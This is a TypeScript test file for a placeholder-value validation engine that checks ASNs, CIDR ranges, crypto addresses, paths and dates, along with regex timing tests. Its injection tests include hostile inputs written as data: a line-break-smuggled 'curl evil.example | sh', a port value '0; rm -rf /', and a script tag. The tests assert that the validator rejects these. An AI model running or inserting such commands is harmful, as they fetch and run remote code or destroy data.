import { globSync, readFileSync } from 'node:fs';
import type { PlaceholderModel, ValueRule } from '../../../src/engine/value-model.ts';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { findFault, LONGEST_MESSAGE } from '../../../src/engine/fault-finder.ts';
import { LONGEST_VALUE } from '../../../src/engine/saved-state.ts';
import {
  fetchAllChecks,
  fetchChecks,
  judge,
  judgeAll,
  usableValues as usable,
} from '../../../src/engine/value-rules.ts';
import { valueKindNames } from '../../../src/engine/value-kind.ts';
import { timed } from '../../support/engine.ts';

const usableValues = (placeholders: readonly PlaceholderModel[], typed: Record<string, string>) =>
  usable({ placeholders }, judgeAll({ placeholders }, Object.entries(typed)));

test('withholds a value until its check is fetched', async () => {
  const address: PlaceholderModel = {
    id: 'btc-address',
    rules: [{ is: 'bitcoin-address', message: 'Copy it again.' }],
  };
  expect(judge('bc1nonsense', address)).toEqual({ is: 'unchecked' });
  expect(usableValues([address], { 'btc-address': 'bc1nonsense' })).toEqual({});
  await fetchChecks(address);
  expect(judge('bc1nonsense', address)).toEqual({ is: 'bad', message: 'Copy it again.' });
  expect(fetchChecks(address)).toBeUndefined();
  expect(fetchChecks(asn)).toBeUndefined();
  expect(judge('６５０００', asn)).toMatchObject({ is: 'good' });
});

test('withholds it as well until the check of a warning is there', async () => {
  const server: PlaceholderModel = {
    id: 'server',
    rules: [{ pattern: '.', message: 'Type it.' }],
    warnings: [{ is: 'private-ipv4', message: 'Others can reach this.' }],
  };
  expect(judge('8.8.8.8', server)).toEqual({ is: 'unchecked' });
  await fetchChecks(server);
  expect(judge('8.8.8.8', server)).toMatchObject({ warning: 'Others can reach this.' });
  await fetchAllChecks();
});

const asn: PlaceholderModel = {
  id: 'asn',
  rules: [
    { pattern: '^[^a-z]', flags: 'i', message: 'Only the number, without “AS”.' },
    {
      number: [
        [64512, 65534],
        [4200000000, 4294967294],
      ],
      whole: true,
      message: 'must lie in 64512–65534 or 4200000000–4294967294',
    },
  ],
  warnings: [{ not: '^64512$', message: '64512 is also what AWS takes for itself.' }],
};

const ruled = (...rules: ValueRule[]): PlaceholderModel => ({ id: 'x', rules });
const message = 'This will not do.';
const good = (value: string) => ({ is: 'good', value });
const bad = { is: 'bad', message };

describe('judging a value', () => {
  test('good, with advice, bad or empty', () => {
    expect(judge('65000', asn)).toEqual(good('65000'));
    expect(judge('64512', asn)).toEqual({
      is: 'good',
      value: '64512',
      warning: '64512 is also what AWS takes for itself.',
    });
    expect(judge('65535', asn)).toEqual({
      is: 'bad',
      message: 'must lie in 64512–65534 or 4200000000–4294967294',
    });
    expect(judge('', asn)).toEqual({ is: 'empty' });
  });

  test('the first rule that is broken gives its message', () => {
    expect(judge('AS65000', asn)).toEqual({ is: 'bad', message: 'Only the number, without “AS”.' });
  });

  test.each([' 65000 ', '\t65000\n', '\u00a065000\u3000', '\ufeff65000'])(
    'blanks around it do not count: %j',
    (typed) => {
      expect(judge(typed, asn)).toEqual(good('65000'));
    },
  );

  test.each(['', ' ', '\t\r\n', '\u3000\u00a0'])('%j is empty, whatever the rules', (typed) => {
    expect(judge(typed, ruled({ length: [1, 3], message }))).toEqual({ is: 'empty' });
  });

  test('full-width digits become plain ones before they are judged', () => {
    expect(judge('６５０００', asn)).toEqual(good('65000'));
  });

  test('markup is a value like others: it obeys the rules or not', () => {
    const markup = '<script>alert(1)</script>';
    expect(judge(markup, ruled({ length: [1, 40], message }))).toEqual(good(markup));
    expect(judge(markup, ruled({ pattern: '^[A-Za-z0-9_-]+$', message }))).toEqual(bad);
  });

  test.each([
    ['a line break', 'mysub\ncurl evil.example | sh'],
    ['a carriage return', 'mysub\rcurl evil.example'],
    ['a separator of lines', 'mysub\u2028curl evil.example'],
    ['an escape', 'mysub\u001b[2K'],
    ['a NUL', 'my\u0000sub'],
    ['a variation of a tag', 'mysub\u{e0041}'],
  ])('a value with %s in it never enters a command', (_what, typed) => {
    const rules: ValueRule[] = [
      { not: 'x{9}', message: 'No.' },
      { length: [1, 100], message },
    ];
    expect(judge(typed, ruled(...rules))).toMatchObject(bad);
  });

  test('without rules everything else is good', () => {
    expect(judge('路 标', ruled())).toEqual(good('路 标'));
  });
});

describe('each kind of rule', () => {
  test.each<[string, ValueRule, readonly string[], readonly string[]]>([
    [
      'pattern',
      { pattern: '^[a-z]{3,5}$', message },
      ['abc', 'abcde'],
      ['ab', 'abcdef', 'ABC', 'ab1'],
    ],
    ['pattern with i', { pattern: '^[a-z]+$', flags: 'i', message }, ['aBc'], ['a1']],
    [
      'pattern with u',
      { pattern: '^\\p{Script=Han}{2}$', flags: 'u', message },
      ['路标', '𠮷𠮷'],
      ['路', 'ab'],
    ],
    ['pattern, not anchored', { pattern: 'KB\\d+', message }, ['xKB1x', 'KB12'], ['KB', 'kb1']],
    ['not', { not: '\\.', message }, ['stratum'], ['a.b', '.']],
    ['not with i', { not: '^as', flags: 'i', message }, ['65000'], ['AS65000', 'as1']],
    ['length', { length: [2, 4], message }, ['ab', 'abcd', '路标', '👍👍'], ['a', 'abcde', '👍']],
    [
      'number',
      { number: [[0.5, 10]], message },
      ['0.5', '10', '7', '007', '9.99', '10.0', '.5', '+5'],
      ['0.49', '10.01', '-1', '1e1', '0x5', '5.', '5,5', '1 0', 'NaN', 'Infinity', '5٫5'],
    ],
    ['negative number', { number: [[-5, -1]], message }, ['-5', '-1.5'], ['0', '1', '--1', '+-2']],
    [
      'whole number',
      {
        number: [
          [0, 9],
          [20, 29],
        ],
        whole: true,
        message,
      },
      ['0', '9', '20', '29'],
      ['10', '19', '30', '-1', '1.0', '1e0', '٣', '9'.repeat(400)],
    ],
    ['ipv4', { is: 'ipv4', message }, ['192.168.1.10'], ['192.168.1']],
    ['private-ipv4', { is: 'private-ipv4', message }, ['192.168.1.10'], ['8.8.8.8']],
    ['host', { is: 'host', message }, ['stratum.antpool.com'], ['stratum+tcp://antpool.com']],
    ['cidr', { is: 'cidr', message }, ['10.0.0.0/16'], ['10.0.0.1/16']],
    [
      'private-cidr',
      { is: 'private-cidr', message },
      ['10.0.0.0/8', '192.168.5.0/24', '172.31.0.0/16', '100.64.0.0/10'],
      ['8.8.8.0/24', '10.0.0.0/7', '172.0.0.0/8', 'x'],
    ],
    [
      'unmixed-cidr',
      { is: 'unmixed-cidr', message },
      ['10.0.0.0/8', '10.0.0.0/9', '192.168.0.0/16', '8.0.0.0/8', '100.64.0.0/10'],
      ['10.0.0.0/7', '192.168.0.0/13', '192.168.0.0/15', '172.0.0.0/8', '0.0.0.0/0', '100.0.0.0/8'],
    ],
    ['link-local-30', { is: 'link-local-30', message }, ['169.254.6.0/30'], ['169.254.5.0/30']],
    [
      'bitcoin-address',
      { is: 'bitcoin-address', message },
      ['1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2'],
      ['1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3'],
    ],
    [
      'sia-address',
      { is: 'sia-address', message },
      [`${'0'.repeat(64)}89eb0d6a8a69`],
      [`${'0'.repeat(64)}89eb0d6a8a68`, '0'.repeat(64), '0'.repeat(76)],
    ],
    [
      'windows-path',
      { is: 'windows-path', message },
      ['C:\\', 'd:\\a', 'C:\\Program Files (x86)\\x.msu', 'C:\\用户\\下载\\', 'Z:\\a\\b.c\\d'],
      [
        'C:',
        'C:/a',
        '\\a',
        'a\\b',
        'C:\\a\\\\b',
        'C:\\a<b',
        'C:\\a:b',
        'C:\\a|b',
        'C:\\"a"',
        'CC:\\a',
        '1:\\a',
        'C:\\a*',
        'C:\\a?b',
      ],
    ],
  ])('%s', (_kind, rule, goods, bads) => {
    for (const value of goods) expect(judge(value, ruled(rule)), value).toEqual(good(value));
    for (const value of bads) expect(judge(value, ruled(rule)), value).toEqual(bad);
  });

  test('the same rule judges the same value the same way twice', () => {
    const placeholder = ruled({ pattern: 'a', flags: 'i', message });
    expect(judge('a', placeholder)).toEqual(judge('a', placeholder));
  });
});

describe('usableValues', () => {
  const placeholders: PlaceholderModel[] = [
    asn,
    {
      id: 'port',
      default: '3333',
      rules: [{ number: [[1, 65535]], whole: true, message }],
    },
  ];

  test('are the good ones, trimmed, else the defaults', () => {
    expect(usableValues(placeholders, { asn: ' 65000 ', port: '443' })).toEqual({
      asn: '65000',
      port: '443',
    });
    expect(usableValues(placeholders, {})).toEqual({ port: '3333' });
  });

  test('a bad value never stands among them', () => {
    expect(usableValues(placeholders, { asn: '1', port: '0; rm -rf /' })).toEqual({ port: '3333' });
  });

  test('values that no placeholder asks for are left out', () => {
    expect(usableValues(placeholders, { asn: '65000', gone: 'x' })).toEqual({
      asn: '65000',
      port: '3333',
    });
  });

  test('a placeholder called "constructor" is empty until something is typed', () => {
    const odd = [{ ...asn, id: 'constructor' }];
    expect(usableValues(odd, {})).toEqual({});
    expect(usableValues(odd, { constructor: '65000' })).toEqual({ constructor: '65000' });
  });
});

describe('rules that depend on a choice', () => {
  const rule: ValueRule = { not: '_', when: { pool: ['antpool', 'cloverpool'] }, message };

  test('hold only for those who have chosen so', () => {
    expect(judge('my_farm', ruled(rule))).toEqual(good('my_farm'));
    expect(judge('my_farm', ruled(rule), { chosen: { pool: ['other'] } })).toEqual(good('my_farm'));
    expect(judge('my_farm', ruled(rule), { chosen: { pool: ['antpool'] } })).toEqual(bad);
    expect(judge('myfarm', ruled(rule), { chosen: { pool: ['antpool'] } })).toEqual(good('myfarm'));
  });
});

describe('days', () => {
  const check = ruled({ day: [0, 92], message });
  const on = (today: string, value: string) =>
    judge(value, check, today === '' ? {} : { now: new Date(`${today}T12:00`) });

  test.each([
    ['2026-12-01', '2026-12-01'],
    ['2026-12-01', '2027-02-22'],
    ['2026-12-01', '2027-03-03'],
    ['2028-02-01', '2028-02-29'],
    ['2031-12-31', '2032-01-01'],
  ])('on %s, %s is within three months', (today, value) => {
    expect(on(today, value)).toEqual(good(value));
  });

  test.each([
    ['2026-12-01', '2026-11-30'],
    ['2026-12-01', '2027-03-04'],
    ['2027-02-01', '2027-02-29'],
    ['2027-02-01', '2027-2-3'],
    ['2027-02-01', '2027-13-01'],
    ['2027-02-01', 'tomorrow'],
    ['', '2027-02-01'],
  ])('on %s, %s is not', (today, value) => {
    expect(on(today, value)).toEqual(bad);
  });
});

/** Texts on which careless patterns take for ever. */
function nasty(length: number, ending: string): string[] {
  const units = [
    ...[
      'a',
      '1',
      ' ',
      '.',
      '-',
      'a.',
      'a-',
      '1.',
      '\\',
      'a\\',
      'KB2999226',
      'ucrtbase',
      'entry point ',
    ],
    ...[
      'api-ms-win-crt-',
      'Windows6.1-',
      '0',
      ':',
      '/',
      'x86',
      '路',
      '%',
      'ab ',
      '10.0.0.0/',
      '=',
      '_',
    ],
  ];
  return units.flatMap((unit) => {
    const text = unit.repeat(Math.ceil(length / unit.length)).slice(0, length - 3 - ending.length);
    return [text, text + ending, `C:\\${text}${ending}`];
  });
}

describe('long values', () => {
  test.each(valueKindNames)('%s refuses what is nothing of the kind', (kind) => {
    expect(judge('§ nothing of the kind §', ruled({ is: kind, message })).is).toBe('bad');
  });

  test.each(valueKindNames)('%s judges each of them in less than a second', (kind) => {
    const placeholder = ruled({ is: kind, message });
    for (const text of nasty(LONGEST_VALUE, '<')) {
      expect(
        timed(() => judge(text, placeholder)),
        text.slice(0, 20),
      ).toBeLessThan(1000);
    }
  });

  test('numbers and lengths too', () => {
    const placeholder = ruled({ length: [0, 5000], message }, { number: [[0, 1]], message });
    for (const text of nasty(LONGEST_VALUE, 'x')) {
      expect(
        timed(() => judge(text, placeholder)),
        text.slice(0, 20),
      ).toBeLessThan(1000);
    }
  });

  const files = globSync('content/guides/*/guide.yml');

  test.each(files)(
    'the rules of %s judge each of them in less than a second',
    { timeout: 60_000 },
    (file) => {
      const data = parse(readFileSync(file, 'utf8')) as { placeholders?: PlaceholderModel[] };
      for (const placeholder of data.placeholders ?? []) {
        for (const rule of [...placeholder.rules, ...(placeholder.warnings ?? [])]) {
          for (const text of nasty(LONGEST_VALUE, '<')) {
            const time = timed(() => judge(text, ruled(rule)));
            expect(
              time,
              `${placeholder.id}: ${JSON.stringify(rule)} on ${text.slice(0, 20)}…`,
            ).toBeLessThan(1000);
          }
        }
      }
    },
  );

  test.each(files)(
    'the faults of %s are looked for in less than two seconds',
    { timeout: 60_000 },
    (file) => {
      const data = parse(readFileSync(file, 'utf8')) as {
        faults?: { id: string; match: string[] }[];
      };
      for (const text of nasty(LONGEST_MESSAGE, '<')) {
        const time = timed(() => findFault(text, data.faults ?? []));
        expect(time, text.slice(0, 20)).toBeLessThan(2000);
      }
    },
  );
});
